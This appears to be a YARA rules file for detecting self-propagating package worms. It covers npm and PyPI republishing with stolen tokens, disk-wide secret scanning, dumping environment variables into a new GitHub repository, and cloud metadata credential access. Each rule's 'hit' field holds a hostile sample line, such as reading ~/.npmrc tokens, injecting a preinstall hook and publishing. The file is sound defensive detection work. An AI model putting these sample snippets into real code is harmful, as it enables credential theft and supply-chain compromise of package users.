/* Publishing with other people's tokens, and searching for secrets with other people's tools. */

rule worm_republish
{
    meta:
        signal = "publish.registry"
        target = "changes a package and publishes it with a token it found"
        units = "any"
        hit = "const token = fs.readFileSync(home + '/.npmrc').toString().match(/_authToken=(.*)/)[1]; pkg.scripts.preinstall = 'node x.js'; execSync('npm publish')"
        lookalike = "Run `npm publish` after you logged in."
    strings:
        $publish = /\bnpm publish\b|\/-\/npm\/v1\/(tokens|user)|registry\.publish|libnpmpublish/
        $token = /_authToken|NPM_TOKEN/
        $script = /(scripts["'\]]*\.?\[?["']?(pre|post)install|["'](pre|post)install["']\s*[\]:]\s*)/
        $read = /(readFile|\.npmrc|process\.env)/
    condition:
        all of them
}

rule worm_publish_python
{
    meta:
        signal = "publish.registry"
        target = "uploads a package with credentials it read"
        units = "any"
        hit = "config.read(os.path.expanduser('~/.pypirc')); subprocess.run(['twine', 'upload', 'dist/*'])"
        lookalike = "Upload with `twine upload dist/*`."
    strings:
        $pypirc = /\.pypirc/
        $upload = /\btwine[^\w\n]{1,6}upload\b|setup\.py[^\w\n]{1,6}(sdist[^\w\n]{1,6})?upload/
        $code = /\b(subprocess|os\.system|child_process|execSync)\b/
    condition:
        all of them
}

rule worm_secret_scanner
{
    meta:
        signal = "cred.read"
        target = "runs a secret scanner over the disk"
        units = "any"
        hit = "execSync('./trufflehog filesystem / --json > /tmp/out.json'); fetch(u)"
        lookalike = "We scan every commit with trufflehog in CI."
    strings:
        $run = /(trufflehog(\.exe)?["']?[, ]+["']?filesystem|gitleaks(\.exe)?["']?[, ]+["']?(detect|dir)|noseyparker[, ]+scan)/
        $code = /\b(execSync|spawnSync?|subprocess|os\.system|child_process|exec\.Command|fetch\()/
    condition:
        all of them
}

rule worm_repository_drop
{
    meta:
        signal = "net.send"
        target = "creates a repository and commits what it gathered"
        units = "any"
        hit = "await fetch(api + '/user/repos', {method: 'POST'}); await put('/repos/x/y/contents/data.json', {content: Buffer.from(JSON.stringify(process.env)).toString('base64')})"
        lookalike = "octokit.repos.createForAuthenticatedUser({ name })"
    strings:
        $create = /(\/user\/repos\b|createForAuthenticatedUser|gh repo create|create_repo\s*\()/
        $commit = /(\/contents\/|createOrUpdateFileContents|create_file\s*\(|git push)/
        $gathered = /(JSON\.stringify\s*\(\s*process\.env|os\.environ|trufflehog|environment|secrets?\.json|cloud\.json|truffleSecrets)/
        $encoded = /(base64|b64encode)/
    condition:
        all of them
}

rule worm_imds
{
    meta:
        signal = "host.cloud-metadata"
        units = "binary"
        hit = "MZ http://169.254.169.254/latest/meta-data/iam/security-credentials/"
        lookalike = "MZ 169.254.0.0/16 is link-local"
    strings:
        $aws = "169.254.169.254/latest" ascii wide
        $google = "metadata.google.internal/computeMetadata" ascii wide
        $ecs = "169.254.170.2" ascii wide
    condition:
        any of them
}
